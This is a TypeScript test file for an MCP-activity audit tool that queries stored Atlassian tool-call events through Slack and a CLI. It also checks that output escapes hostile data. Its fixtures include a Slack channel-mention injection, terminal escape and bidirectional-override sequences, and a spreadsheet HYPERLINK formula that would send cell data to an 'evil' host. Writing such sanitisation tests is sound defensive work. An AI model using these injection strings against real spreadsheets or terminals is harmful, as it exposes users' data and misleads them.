import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { NormalizedEvent } from "../../src/domain/event.js";
import { parseQuery } from "../../src/query/parse.js";
import { peopleMeant } from "../../src/query/people-meant.js";
import { resolvePeople, runActivity, toFilter, unknownName } from "../../src/query/run.js";
import { activityReply } from "../../src/slack/blocks/query.js";
import { ActivityStore } from "../../src/store/activity.js";
import { AlertStore } from "../../src/store/alerts.js";
import { EventStore } from "../../src/store/events.js";
import { openStore } from "../../src/store/open.js";
import { HOUR } from "../../src/time-units.js";
import { normalizedEvent, T0 } from "../detect/fixtures.js";
import { runCli } from "../helpers/cli.js";
import { tempDir } from "../helpers/tmp.js";
import { newAlert } from "../store/setup.js";

function storeWith(events: Array<Partial<NormalizedEvent>>) {
  const path = join(tempDir(), "q.db");
  const db = openStore(path);
  const base = normalizedEvent();
  new EventStore(db).insertMany(
    events.map((e, i) => ({ ...base, id: `e-${i}`, ...e })),
    T0,
  );
  return { db, path, store: new ActivityStore(db) };
}

const known: Array<Partial<NormalizedEvent>> = [
  { time: T0 - 1 * HOUR, tool: "getJiraIssue", toolClass: "read", resource: "OPS-1" },
  {
    time: T0 - 2 * HOUR,
    tool: "createJiraIssue",
    toolClass: "write",
    resource: "OPS-2",
    authKind: "api-token",
  },
  {
    time: T0 - 30 * HOUR,
    tool: "getConfluencePage",
    toolClass: "read",
    resource: "Runbook (55)",
    product: "confluence",
  },
  { time: T0 - 10 * 24 * HOUR, tool: "getJiraIssue", toolClass: "read" },
  {
    time: T0 - 3 * HOUR,
    userId: "acc-bob",
    userName: "Bob",
    userEmail: "bob@example.com",
    tool: "deleteJiraIssue",
    toolClass: "destructive",
    siteHost: "other.atlassian.net",
  },
  { time: T0 - 4 * HOUR, isMcp: false, tool: null, toolClass: null, action: "user_logged_in" },
];

function ask(store: ActivityStore, text: string, limit?: number) {
  const parsed = parseQuery(text, { now: T0, timeZone: "UTC" });
  if (!parsed.ok) throw new Error(parsed.error.message);
  const names = parsed.query.users.flatMap((u) => (u.kind === "text" ? [u.value] : []));
  return runActivity(
    store,
    toFilter(parsed.query, store, names, "org-1"),
    limit ?? parsed.query.limit,
  );
}

describe("activity runner on a real SQLite file", () => {
  it("counts MCP events in the window only", async () => {
    const { store } = storeWith(known);
    expect((await ask(store, "since:7d")).summary).toMatchObject({
      calls: 4,
      people: 2,
      tools: 4,
      sites: 2,
    });
    expect((await ask(store, "since:24h")).summary.calls).toBe(3);
    expect((await ask(store, "since:30d")).summary.calls).toBe(5);
    expect(
      (await ask(store, `until:${new Date(T0 - 5 * HOUR).toISOString()} since:30d`)).summary.calls,
    ).toBe(2);
  });

  it("filters by person in any form, tool, class, product, site and auth", async () => {
    const { store } = storeWith(known);
    for (const who of ["alice@example.com", "ALICE@example.com", "acc-alice", '"Alice Example"']) {
      expect((await ask(store, `user:${who}`)).summary.calls).toBe(3);
    }
    expect((await ask(store, "user:nobody@example.com")).summary.calls).toBe(0);
    // A first name or an e-mail's name, when nobody is exactly that (and not a part of one).
    expect((await ask(store, "user:alice")).summary.calls).toBe(3);
    expect((await ask(store, "user:ALI")).summary.calls).toBe(0);
    expect((await ask(store, "user:bob")).summary.calls).toBe(1); // exactly "Bob"
    expect((await ask(store, "user:al%")).summary.calls).toBe(0);
    expect((await ask(store, "tool:getJiraIssue tool:deleteJiraIssue")).summary.calls).toBe(2);
    expect((await ask(store, "tool:getjiraissue")).summary.calls).toBe(1);
    expect((await ask(store, "class:destructive")).summary.people).toBe(1);
    expect((await ask(store, "product:confluence")).summary.calls).toBe(1);
    expect((await ask(store, "site:other.atlassian.net")).summary.calls).toBe(1);
    expect((await ask(store, "auth:api-token")).summary.byAuth).toEqual({ "api-token": 1 });
    expect((await ask(store, "runbook")).summary.calls).toBe(1);
  });

  it("matches letters beyond A–Z whatever their case: names, e-mails, countries, free words", async () => {
    const çarol = {
      userId: "acc-carol",
      userName: "Çarol Ñúñez",
      userEmail: "çarol@example.com",
      country: "Österreich",
      resource: "Ärger im Büro",
    };
    const { store } = storeWith([
      ...known,
      { ...çarol, time: T0 - HOUR },
      { ...çarol, time: T0 - 2 * HOUR },
    ]);
    const calls = async (text: string) => (await ask(store, `${text} since:7d`)).summary.calls;
    for (const who of [
      '"Çarol Ñúñez"',
      '"çarol ñúñez"',
      '"ÇAROL ÑÚÑEZ"',
      "ÇAROL@example.com",
      "çarol",
    ])
      expect(await calls(`user:${who}`)).toBe(2);
    for (const text of [
      "country:österreich",
      "country:ÖSTERREICH",
      "ñúñez",
      "ÑÚÑEZ",
      "ärger",
      "BÜRO",
    ])
      expect(await calls(text)).toBe(2);
    expect(await calls("country:germany")).toBe(4); // the ASCII way still holds
    expect(await calls("ñu")).toBe(0); // folded, not stripped of its accents
  });

  it("finds the events of alerts by status and rule, in the period asked only", async () => {
    const { db, store } = storeWith(known); // seqs 1–6 in the order of `known`
    const alerts = new AlertStore(db);
    const raise = (ruleId: string, seq: number, hoursAgo: number, status = "open") => {
      const at = T0 - hoursAgo * HOUR;
      const id = alerts.insert(
        newAlert({ ruleId, firstEventSeq: seq, lastEventSeq: seq, firstSeen: at, lastSeen: at }),
      );
      db.prepare("UPDATE alerts SET status = ? WHERE id = ?").run(status, id);
      return id;
    };
    raise("mcp-destructive", 5, 3); // Bob's delete, 3 hours ago
    raise("mcp-api-token", 2, 2, "acknowledged");
    const long = raise("mcp-off-hours", 4, 240); // 10 days ago, then again an hour ago
    alerts.grow(
      { id: long, orgId: "org-1" },
      { seq: 1, time: T0 - HOUR, late: false, tools: [], severity: "high", notify: true },
      T0,
    );
    const calls = async (text: string) => (await ask(store, text)).summary.calls;
    expect(await calls("status:open since:24h")).toBe(2);
    expect(await calls("status:open since:30d")).toBe(3);
    expect(await calls("status:acknowledged since:24h")).toBe(1);
    expect(await calls("rule:mcp-off-hours since:7d")).toBe(1);
    expect(await calls("rule:mcp-off-hours since:30d")).toBe(2);
    const before = new Date(T0 - 4 * HOUR).toISOString();
    expect(await calls(`rule:mcp-destructive since:7d until:${before}`)).toBe(0);
    expect(await calls("rule:mcp-destructive status:acknowledged since:7d")).toBe(0);
  });

  it("lists the newest 10 open alerts about the people asked about, and counts them all", async () => {
    const { db, store } = storeWith(known);
    const alerts = new AlertStore(db);
    for (let i = 0; i < 14; i++)
      alerts.insert(newAlert({ userId: "acc-alice", title: `alert ${i}`, groupKey: `g${i}` }));
    alerts.insert(newAlert({ userId: "acc-bob", title: "Bob's", groupKey: "bob" }));
    const { openAlerts } = await ask(store, "user:alice since:7d");
    expect(openAlerts.total).toBe(14);
    expect(openAlerts.alerts.map((a) => a.title)).toEqual(
      Array.from({ length: 10 }, (_, i) => `alert ${13 - i}`),
    );
    const reply = JSON.stringify(
      activityReply("Alice", await ask(store, "user:alice since:7d"), {
        more: () => undefined,
        export: undefined,
      }).blocks,
    );
    expect(reply).toContain("alert 4\\n…and 4 older open alerts");
    expect((await ask(store, "since:7d")).openAlerts).toEqual({ alerts: [], total: 0 });
  });

  it("escapes the tool, action and resource of each event it lists", async () => {
    const hostile = "<!channel> <https://evil.example|x>";
    const { store } = storeWith([{ time: T0 - HOUR, tool: hostile, action: hostile }]);
    const reply = JSON.stringify(
      activityReply("All", await ask(store, "since:7d"), {
        more: () => undefined,
        export: undefined,
      }),
    );
    expect(reply).toContain("&lt;!channel&gt;");
    expect(reply).not.toMatch(/<!channel>|<https:\/\/evil/);
  });

  it("gives the split, top lists and a page of the latest events", async () => {
    const { store } = storeWith(known);
    const result = await ask(store, "since:7d", 2);
    expect(result.summary.byClass).toEqual({ read: 2, write: 1, destructive: 1 });
    expect(result.topTools).toHaveLength(4); // one call each: ties in name order
    expect(result.topTools[0]).toEqual({ key: "createJiraIssue", count: 1 });
    expect(result.latest.map((e) => e.tool)).toEqual(["getJiraIssue", "createJiraIssue"]);
    expect(result.more).toBe(true);
    expect(result.sparkline).toHaveLength(24);
  });

  it("counts a wide question window by window, letting the event loop in meanwhile", async () => {
    // 30 days of calls, one every 2 minutes, every tenth in the same millisecond as the one
    // before; the last at `until` (T0), which is not in the question.
    const times = Array.from({ length: 21_601 }, (_, i) => T0 - (i - Math.floor(i / 10)) * 120_000);
    const { store } = storeWith(
      times.map((time, i) => ({ time, tool: i % 3 === 0 ? "getJiraIssue" : "searchJira" })),
    );
    let turns = 0;
    const counting = setInterval(() => turns++, 0);
    const result = await ask(store, "since:30d");
    clearInterval(counting);
    const asked = times.filter((t) => t >= T0 - 30 * 24 * HOUR && t < T0);
    expect(result.summary.calls).toBe(asked.length);
    expect(result.topTools.map((t) => t.count).reduce((a, b) => a + b)).toBe(asked.length);
    expect(turns).toBeGreaterThan(0);

    // Page after page, newest first: each event once, in order, ties in the same millisecond too.
    const parsed = parseQuery("since:30d", { now: T0, timeZone: "UTC" });
    if (!parsed.ok) throw new Error(parsed.error.message);
    const filter = toFilter(parsed.query, store, [], "org-1");
    const seen: Array<{ time: number; seq: number }> = [];
    for (let before: { time: number; seq: number } | undefined; ; ) {
      const page = await runActivity(store, filter, 997, before); // some pages end inside a tie
      seen.push(...page.latest.map(({ time, seq }) => ({ time, seq })));
      if (!page.more) break;
      before = seen.at(-1);
    }
    expect(seen).toHaveLength(asked.length);
    for (let i = 1; i < seen.length; i++) {
      const [newer, older] = [seen[i - 1], seen[i]];
      const inOrder =
        older &&
        newer &&
        (older.time < newer.time || (older.time === newer.time && older.seq < newer.seq));
      expect(inOrder).toBe(true);
    }
    expect(new Set(seen.map((e) => e.seq)).size).toBe(seen.length);
  }, 60_000); // 23 questions of 30 days: seconds on a loaded machine

  it("lets non-responders ask only about themselves", async () => {
    const asker = { slackUserId: "U1", email: "alice@example.com", responder: false };
    const looked: string[] = [];
    const emailOf = async (id: string) => {
      looked.push(id);
      return id === "U1" ? "alice@example.com" : "bob@example.com";
    };
    expect(await resolvePeople([{ kind: "me" }], asker, emailOf)).toEqual({
      ok: true,
      people: ["alice@example.com"],
      emailOnly: true,
    });
    expect(
      await resolvePeople([{ kind: "text", value: "ALICE@example.com" }], asker, emailOf),
    ).toMatchObject({ ok: true });
    expect(await resolvePeople([{ kind: "slack", id: "U2" }], asker, emailOf)).toEqual({
      ok: false,
      reason: "only-self",
    });
    expect(await resolvePeople([], asker, emailOf)).toEqual({ ok: false, reason: "only-self" });
    expect(await resolvePeople([{ kind: "slack", id: "U1" }], asker, emailOf)).toMatchObject({
      ok: true,
      people: ["alice@example.com"],
    });
    // Someone else is refused before any look-up: a list of mentions costs Slack nothing.
    expect(looked).toEqual(["U1"]);
    expect(
      await resolvePeople([{ kind: "slack", id: "U2" }], { ...asker, responder: true }, emailOf),
    ).toEqual({ ok: true, people: ["bob@example.com"] });
  });
});

describe("a name that may mean several people", () => {
  it("is not added up: the question asks which, in Slack's words and on the command line", async () => {
    const { store, path, db } = storeWith([
      ...known,
      { time: T0 - HOUR, userId: "acc-berg", userName: "Alice Berg", userEmail: "ab@corp.example" },
    ]);
    expect((await ask(store, "user:alice")).summary.calls).toBe(0);
    expect(peopleMeant(store, "org-1", ["alice", "bob", "alice@example.com"], T0).unclear).toEqual({
      name: "alice",
      people: [
        { id: "acc-berg", name: "Alice Berg", email: "ab@corp.example" },
        { id: "acc-alice", name: "Alice Example", email: "alice@example.com" },
      ],
    });
    db.close();
    const cli = await runCli(["query", "user:alice since:1d"], { DATABASE_PATH: path });
    expect(cli.code).toBe(2);
    expect(cli.stderr).toBe(
      "user:alice may be any of these people; ask again with the e-mail (or account id) of the one you mean:\n  Alice Berg <ab@corp.example> (account acc-berg)\n  Alice Example <alice@example.com> (account acc-alice)\n",
    );
  });
});

describe("two people of the same display name", () => {
  it("are not added up: the question asks which", () => {
    const { store } = storeWith([
      { userId: "acc-js1", userName: "John Smith", userEmail: "john.smith@example.com" },
      { userId: "acc-js2", userName: "john smith", userEmail: "jsmith@contractor.example" },
    ]);
    expect(peopleMeant(store, "org-1", ["John Smith"], T0).unclear).toEqual({
      name: "John Smith",
      people: [
        { id: "acc-js1", name: "John Smith", email: "john.smith@example.com" },
        { id: "acc-js2", name: "john smith", email: "jsmith@contractor.example" },
      ],
    });
    // Each one's e-mail or account id means one person.
    const meant = peopleMeant(store, "org-1", ["jsmith@contractor.example", "acc-js1"], T0);
    expect(meant).toEqual({ names: ["jsmith@contractor.example", "acc-js1"], handedOver: [] });
  });
});

describe("an address two accounts had, one of which has it now", () => {
  it("means that one, the other told, in Slack's words and on the command line", async () => {
    // The command reads the clock: the calls are of the last day.
    const now = Date.now();
    const old = { userId: "acc-old", actorId: "acc-old", userName: "Sam Old" };
    const { store, path, db } = storeWith([
      { ...old, time: now - 20 * HOUR, userEmail: "sam@example.com", resource: "HR-42" },
      { ...old, time: now - 2 * HOUR, userEmail: "sam.old@example.com" },
      {
        time: now - HOUR,
        userId: "acc-new",
        userName: "Sam New",
        userEmail: "sam@example.com",
        resource: "OPS-9",
      },
    ]);
    const meant = peopleMeant(store, "org-1", ["sam@example.com"], now);
    expect(meant).toEqual({
      names: ["acc-new"],
      handedOver: [
        {
          email: "sam@example.com",
          holder: { id: "acc-new", name: "Sam New", email: "sam@example.com" },
          former: [{ id: "acc-old", name: "Sam Old", email: "sam.old@example.com" }],
        },
      ],
    });
    db.close();
    const cli = await runCli(["query", "user:sam@example.com since:1d", "--json"], {
      DATABASE_PATH: path,
    });
    expect(cli.code).toBe(0);
    expect(cli.stderr).toContain(
      "user:sam@example.com is Sam New (account acc-new), who has that address now. It was also the address of Sam Old (account acc-old, sam.old@example.com now): their calls are not in this answer; ask with user:acc-old.\n",
    );
    expect(cli.stdout).toContain("OPS-9");
    expect(cli.stdout).not.toContain("HR-42");
  });
});

describe("a name that is nobody stored", () => {
  it("is said, with the nearest stored e-mail or name, in Slack's words and on the command line", async () => {
    const { store, path, db } = storeWith(known);
    expect(unknownName(store, "org-1", ["alice@example.com", "alice@exmaple.com"])).toEqual({
      name: "alice@exmaple.com",
      nearest: "alice@example.com",
    });
    expect(unknownName(store, "org-1", ["Alice Exampel"])).toEqual({
      name: "Alice Exampel",
      nearest: "Alice Example",
    });
    expect(unknownName(store, "org-1", ["zoe@elsewhere.example"])).toEqual({
      name: "zoe@elsewhere.example",
    });
    expect(unknownName(store, "org-1", ["alice", "acc-alice"])).toBeUndefined();
    db.close();
    const cli = await runCli(["query", "user:alice@exmaple.com since:1d"], { DATABASE_PATH: path });
    expect(cli.code).toBe(0);
    expect(cli.stderr).toBe(
      "no MCP calls by user:alice@exmaple.com are stored; did you mean user:alice@example.com?\n",
    );
    const named = await runCli(["query", 'user:"Alice Exampel" since:1d'], { DATABASE_PATH: path });
    expect(named.stderr).toBe(
      'no MCP calls by user:"Alice Exampel" are stored; did you mean user:"Alice Example"?\n',
    );
  });
});

describe("an e-mail address", () => {
  it("matches e-mail addresses alone, not a display name someone set to it", () => {
    const { store } = storeWith([
      { userId: "acc-alice", userName: "Alice", userEmail: "alice@example.com" },
      { userId: "acc-mallory", userName: "alice@example.com", userEmail: "m@example.com" },
    ]);
    const parsed = parseQuery("user:me", { now: T0, timeZone: "UTC" });
    if (!parsed.ok) throw new Error(parsed.error.message);
    const self = toFilter(parsed.query, store, ["alice@example.com"], "org-1", { heldAt: T0 });
    expect(self.people).toEqual(["acc-alice"]);
    // A responder's question too: Mallory's calls are not Alice's.
    const responder = toFilter(parsed.query, store, ["alice@example.com"], "org-1");
    expect(responder.people).toEqual(["acc-alice"]);
    // Nor a first name or an e-mail's name: only the whole address.
    expect(toFilter(parsed.query, store, ["alice"], "org-1", { heldAt: T0 }).people).not.toContain(
      "acc-alice",
    );
  });
});

describe("mcp-activity query", () => {
  it("lists the open alerts about the person asked about, also when none of their calls is in the window", async () => {
    const { db, path } = storeWith(known);
    new AlertStore(db).insert(newAlert({ userId: "acc-alice", title: "Alice deleted an issue" }));
    db.close();
    // known's calls are at T0, long before this week.
    const table = await runCli(["query", "user:alice@example.com since:7d"], {
      DATABASE_PATH: path,
    });
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toMatch(/^0 MCP calls/m);
    expect(table.stdout).toMatch(
      /open alerts about them:\n {2}#\d+ \w+ · Alice deleted an issue\n/,
    );
    const json = await runCli(["query", "user:alice@example.com since:7d", "--json"], {
      DATABASE_PATH: path,
    });
    const answer = JSON.parse(json.stdout) as { openAlerts: { alerts: unknown[]; total: number } };
    expect(answer.openAlerts.total).toBe(1);
  });

  it("prints a table, JSON and CSV", async () => {
    const { db, path } = storeWith(
      known.map((e) => ({ ...e, time: (e.time ?? T0) - T0 + Date.now() })),
    );
    db.close();
    const table = await runCli(["query", "user:alice@example.com since:7d"], {
      DATABASE_PATH: path,
    });
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toMatch(/3 MCP calls · 1 person/);
    expect(table.stdout).toMatch(/^time \(UTC\)\s+user\s+tool/m);
    const json = await runCli(["query", "class:destructive", "--json"], { DATABASE_PATH: path });
    const answer = JSON.parse(json.stdout) as {
      summary: { calls: number };
      latest: Array<{ tool: string; raw?: string }>;
    };
    expect(answer.summary.calls).toBe(1);
    expect(answer.latest[0]?.tool).toBe("deleteJiraIssue");
    expect(answer.latest[0]?.raw).toBeUndefined();
    const csv = await runCli(["query", "since:7d format:csv"], { DATABASE_PATH: path });
    const rows = csv.stdout.trim().split("\r\n");
    expect(rows).toHaveLength(5);
    // Oldest call first, though they were stored in another order.
    const tools = rows.slice(1).map((row) => /(get|create|delete)\w+/.exec(row)?.[0]);
    expect(tools).toEqual([
      "getConfluencePage",
      "deleteJiraIssue",
      "createJiraIssue",
      "getJiraIssue",
    ]);
  });

  it("prints the class and auth splits in Slack's order (read, search, write, destructive, admin), whatever the data's", async () => {
    const now = Date.now();
    // Read newest first: the data's order is admin, destructive, … and api-token before oauth.
    const { db, path } = storeWith([
      { time: now - HOUR, tool: "createJiraProject", toolClass: "admin", authKind: "api-token" },
      { time: now - 2 * HOUR, tool: "deleteJiraIssue", toolClass: "destructive" },
      { time: now - 3 * HOUR, tool: "createJiraIssue", toolClass: "write" },
      { time: now - 4 * HOUR, tool: "createJiraIssue", toolClass: "write" },
      { time: now - 5 * HOUR, tool: "search", toolClass: "search" },
      { time: now - 6 * HOUR, tool: null, toolClass: null },
      { time: now - 7 * HOUR, tool: "getJiraIssue", toolClass: "read" },
    ]);
    db.close();
    const out = await runCli(["query", "since:1d"], { DATABASE_PATH: path });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toContain(
      "split: read 1, search 1, write 2, destructive 1, admin 1, unknown 1; auth: oauth 6, api-token 1\n",
    );
  });

  it("says why rule: of a rule about admins' acts finds no call, as Slack does", async () => {
    const { db, path } = storeWith(known);
    db.close();
    const out = await runCli(["query", "rule:mcp-settings-changed since:400d"], {
      DATABASE_PATH: path,
    });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toMatch(/^0 MCP calls/m);
    expect(out.stderr).toBe(
      "mcp-settings-changed alerts are mostly about an admin's act, not MCP calls, which queries read: they are in the alert channel, the digest and the App Home\n",
    );
  });

  it("says when a tool: or site: asked about is on no stored call, with the nearest one, as Slack does", async () => {
    const { db, path } = storeWith(known);
    db.close();
    const typo = await runCli(["query", "tool:deleteJiraIsue since:400d"], { DATABASE_PATH: path });
    expect(typo.code, typo.stderr).toBe(0);
    expect(typo.stdout).toMatch(/^0 MCP calls/m);
    expect(typo.stderr).toBe(
      "no stored MCP call has tool:deleteJiraIsue; did you mean tool:deleteJiraIssue?\n",
    );
    const csv = await runCli(["query", "site:nowhere.example since:400d format:csv"], {
      DATABASE_PATH: path,
    });
    expect(csv.stdout.trim().split("\r\n")).toHaveLength(1);
    expect(csv.stderr).toMatch(
      /^window: .*\nno stored MCP call has site:nowhere\.example; a site is named by its host, like site:acme\.atlassian\.net\n$/,
    );
    const json = await runCli(["query", "tool:deleteJiraIsue since:400d", "--json"], {
      DATABASE_PATH: path,
    });
    expect(JSON.parse(json.stdout)).toMatchObject({ summary: { calls: 0 } });
    expect(json.stderr).toContain("did you mean tool:deleteJiraIssue?");
    // A stored tool with no call in the window is simply an empty answer.
    const quiet = await runCli(["query", "tool:deleteJiraIssue since:1h"], { DATABASE_PATH: path });
    expect(quiet.stdout).toMatch(/^0 MCP calls/m);
    expect(quiet.stderr).toBe("");
  });

  it("refuses an organization whose events are not stored, naming those that are", async () => {
    const { db, path } = storeWith([{ time: Date.now() - HOUR }]);
    db.close();
    for (const args of [
      ["query", "since:1d", "--org", "nope"],
      ["query", "since:1d org:nope"],
      ["export", "--since", "1d", "--org", "nope"],
      ["digest", "--dry-run", "--org", "nope"],
    ]) {
      const result = await runCli(args, { DATABASE_PATH: path });
      expect(result.code, args.join(" ")).toBe(2);
      expect(result.stderr).toContain(
        'no events of organization "nope" are stored: the stored ones are org-1',
      );
    }
  });

  it("takes a stored organization named in another case, as ATLASSIAN_ORG_ID and Slack's org: read ids", async () => {
    const { db, path } = storeWith([{ time: Date.now() - HOUR }]);
    db.close();
    for (const [args, env] of [
      [["query", "since:1d", "--org", "ORG-1"], {}],
      [["query", "since:1d org:Org-1"], {}],
      [["export", "--since", "1d", "--org", "ORG-1"], {}],
      [["digest", "--dry-run", "--org", "ORG-1"], {}],
      [["digest", "--dry-run"], { ATLASSIAN_ORG_ID: "ORG-1" }],
    ] as const) {
      const result = await runCli([...args], { DATABASE_PATH: path, ...env });
      expect(result.code, `${args.join(" ")}: ${result.stderr}`).toBe(0);
      expect(result.stdout).not.toContain("ORG-1");
    }
    const query = await runCli(["query", "since:1d", "--org", "ORG-1", "--json"], {
      DATABASE_PATH: path,
    });
    expect(JSON.parse(query.stdout)).toMatchObject({ summary: { calls: 1 } });
  });

  it("refuses org: and --org naming two organizations, and takes them naming the same one", async () => {
    const { db, path } = storeWith([{ time: Date.now() - HOUR }]);
    db.close();
    const two = await runCli(["query", "org:nope since:1d", "--org", "org-1"], {
      DATABASE_PATH: path,
    });
    expect(two.code).toBe(2);
    expect(two.stdout).toBe("");
    expect(two.stderr).toContain("--org org-1 and org:nope name two organizations: give one");
    const same = await runCli(["query", "org:org-1 since:1d", "--org", "org-1"], {
      DATABASE_PATH: path,
    });
    expect(same.code, same.stderr).toBe(0);
    expect(same.stdout).toMatch(/^1 MCP call/m);
  });

  it("prints no control character of the audit data on the terminal", async () => {
    const hostile = "Q3 plan\u001b]0;owned\u0007\u001b[2J\u009b31m";
    const { db, path } = storeWith([{ time: Date.now() - HOUR, resource: hostile }]);
    db.close();
    for (const args of [
      ["query", "since:1d"],
      ["query", "since:1d format:csv"],
    ]) {
      const out = await runCli(args, { DATABASE_PATH: path });
      expect(out.code, out.stderr).toBe(0);
      expect(out.stdout).toContain("Q3 plan]0;owned[2J31m");
      const controls = [...out.stdout].filter((c) => {
        const code = c.codePointAt(0) ?? 0;
        return (code < 0x20 && !"\t\n\r".includes(c)) || (code >= 0x7f && code <= 0x9f);
      });
      expect(controls).toEqual([]);
    }
  });

  it("prints no bidirectional override nor invisible character of the audit data on the terminal; CSV and JSON keep them", async () => {
    const hostile = "Q3 \u202enalp\u202c\u200b\u2066x\u2069\ufeff";
    const { db, path } = storeWith([{ time: Date.now() - HOUR, resource: hostile }]);
    db.close();
    const table = await runCli(["query", "since:1d"], { DATABASE_PATH: path });
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toContain("Q3 nalpx");
    expect(table.stdout).not.toMatch(/[\u200b\u202a-\u202e\u2066-\u2069\ufeff]/);
    // A file or a script gets the data as stored.
    const csv = await runCli(["query", "since:1d format:csv"], { DATABASE_PATH: path });
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toContain(`,${hostile},`);
    const json = await runCli(["query", "since:1d", "--json"], { DATABASE_PATH: path });
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).toContain(hostile);
  });

  it("writes no live formula to a CSV file, even one hidden behind control characters", async () => {
    const { db, path } = storeWith([
      { time: Date.now() - HOUR, resource: '\u0007=HYPERLINK("http://evil/?"&A1,"x")' },
    ]);
    db.close();
    const out = await runCli(["query", "since:1d format:csv"], { DATABASE_PATH: path });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(out.stdout).not.toMatch(/(^|,)"?=/m);
  });

  it("prints its help for help, and says status and settings answer in Slack", async () => {
    const help = await runCli(["query", "help"], {});
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Usage: mcp-activity query "<query>"');
    const status = await runCli(["query", "status"], {});
    expect(status.code).toBe(2);
    expect(status.stderr).toContain('"status" answers in Slack (/mcp-activity status)');
    // A topic after settings, or a near miss, is answered the same.
    const topic = await runCli(["query", "settings oauth"], {});
    expect(topic.code).toBe(2);
    expect(topic.stderr).toContain('"settings oauth" answers in Slack (/mcp-activity settings)');
    const typo = await runCli(["query", "hlep"], {});
    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain('"hlep" is no query: did you mean mcp-activity query help?');
  });

  it("refuses a rule: no rule has with the id meant, as Slack does", async () => {
    const result = await runCli(["query", "rule:off-hours since:1d"], {
      DATABASE_PATH: join(tempDir(), "x.db"),
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'no rule is called "off-hours" (did you mean rule:mcp-off-hours?)',
    );
  });

  it("explains a bad query with exit 2", async () => {
    const result = await runCli(["query", "usr:bob"], { DATABASE_PATH: join(tempDir(), "x.db") });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("usr");
  });
});
